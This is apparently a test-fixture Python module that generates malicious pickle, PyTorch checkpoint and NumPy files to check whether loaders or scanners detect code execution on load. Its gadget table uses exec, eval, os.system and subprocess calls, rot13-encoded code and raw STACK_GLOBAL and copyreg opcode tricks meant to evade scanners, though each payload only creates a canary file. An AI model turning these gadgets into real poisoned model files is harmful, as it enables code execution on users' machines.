"""Files made to run code: each would make a canary file, if it were loaded as its maker hopes."""

from __future__ import annotations

import codecs
import copyreg
import functools
import importlib
import io
import operator
import os
import pickle
import subprocess
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch


class Call:
    """Pickled as the call of a function, which may itself be the result of a call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.reduced = function, arguments

    def __call__(self) -> None:
        """Pickle insists on it."""

    def __reduce__(self) -> Any:
        return self.reduced


class Loaded(OrderedDict):
    """Runs code when its state is set."""

    def __reduce__(self) -> Any:
        return Loaded, (), str(self["canary"])

    def __setstate__(self, state: str) -> None:
        Path(state).touch()


def _module(name: str) -> Call:
    return Call(importlib.import_module, name)


def _code(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def _storage(canary: Path) -> bytes:
    buffer = io.BytesIO()
    torch.save(Call(exec, _code(canary)), buffer)
    return buffer.getvalue()


def _array_file(canary: Path) -> str:
    """A .npy file of an object that runs code."""
    path = canary.with_name("object.npy")
    np.save(path, np.array([Call(exec, _code(canary))], dtype=object), allow_pickle=True)
    return str(path)


def _opcodes(module: str, name: str, *arguments: str) -> Any:
    """STACK_GLOBAL with a dotted name, which finds what a module has imported."""

    def text(word: str) -> bytes:
        return pickle.BINUNICODE + len(word).to_bytes(4, "little") + word.encode()

    called = text(module) + text(name) + pickle.STACK_GLOBAL
    given = pickle.MARK + b"".join(map(text, arguments)) + pickle.TUPLE
    return pickle.PROTO + b"\x04" + called + given + pickle.REDUCE + pickle.STOP


def _extension(canary: Path) -> bytes:
    """`copyreg`'s register of extensions, filled by the file itself, and called by its number."""
    register = pickle.dumps(Call(copyreg.add_extension, "builtins", "exec", 241), 2)
    given = pickle.dumps((_code(canary),), 2)
    return (
        register.removesuffix(pickle.STOP)
        + (pickle.POP + pickle.EXT1 + b"\xf1" + given[2:].removesuffix(pickle.STOP))
        + (pickle.REDUCE + pickle.STOP)
    )


GADGETS: dict[str, Callable[[Path], Any]] = {
    "os.system": lambda c: Call(os.system, f"touch {c}"),
    "eval": lambda c: Call(eval, _code(c)),
    "exec": lambda c: Call(exec, _code(c)),
    "subprocess": lambda c: Call(subprocess.check_output, ["touch", str(c)]),
    "Popen": lambda c: Call(subprocess.Popen, ["touch", str(c)]),
    "numpy runstring": lambda c: Call(np.testing._private.utils.runstring, _code(c), {}),
    "numpy.load": lambda c: Call(np.load, _array_file(c), None, True),
    "numpy object array": lambda c: np.array([Call(exec, _code(c))], dtype=object),
    "torch.storage": lambda c: Call(torch.storage._load_from_bytes, _storage(c)),
    "torch.load": lambda c: Call(
        functools.partial(torch.load, weights_only=False), Call(io.BytesIO, _storage(c))
    ),
    "functools.partial": lambda c: Call(functools.partial(exec, _code(c))),
    "functools.reduce": lambda c: Call(functools.reduce, exec, [{}], _code(c)),
    "operator.methodcaller": lambda c: Call(operator.methodcaller("touch"), c),
    "operator.attrgetter": lambda c: Call(
        Call(operator.attrgetter("system"), _module("os")), f"touch {c}"
    ),
    "map": lambda c: Call(list, Call(map, exec, [_code(c)])),
    "getattr": lambda c: Call(Call(getattr, _module("os"), "mkdir"), str(c)),
    "copyreg": _extension,
    "codecs": lambda c: Call(exec, Call(codecs.decode, codecs.encode(_code(c), "rot13"), "rot13")),
    "OrderedDict": lambda c: Loaded(canary=c),
    "dotted name": lambda c: _opcodes("torch.storage", "io.FileIO", str(c), "w"),
    "listed module": lambda c: _opcodes("collections", "_sys.modules.get", "os"),
}


def pickled(name: str, canary: Path) -> bytes:
    """A gadget as a pickle."""
    made = GADGETS[name](canary)
    return made if isinstance(made, bytes) else pickle.dumps(made, 2)


def write_pickle(name: str, path: Path, canary: Path) -> Path:
    """A gadget as a dump or an annotation list; also what torch saved before it saved zips."""
    path.write_bytes(pickled(name, canary))
    return path


def write_zip(name: str, path: Path, canary: Path) -> Path:
    """A gadget in the place of a checkpoint's `data.pkl`."""
    good = io.BytesIO()
    torch.save({"state_dict": {"a": torch.ones(2)}}, good)
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w") as target:
        for entry in source.infolist():
            bad = entry.filename.endswith("/data.pkl")
            target.writestr(entry, pickled(name, canary) if bad else source.read(entry))
    return path


def write_tar(name: str, path: Path, canary: Path) -> Path:
    """A gadget in the oldest of torch's formats."""
    with tarfile.open(path, "w") as tar:
        for member in ("sys_info", "storages", "tensors", "pickle"):
            entry = tarfile.TarInfo(member)
            entry.size = len(pickled(name, canary))
            tar.addfile(entry, io.BytesIO(pickled(name, canary)))
    return path


def write_npz(name: str, path: Path, canary: Path) -> Path:
    """A gadget in an array of objects."""
    with path.open("wb") as file:
        made = np.array([Call(exec, _code(canary))], dtype=object)
        np.savez(file, a=made, allow_pickle=True)
    return path


FORMS = {"pickle": write_pickle, "zip": write_zip, "tar": write_tar, "npz": write_npz}
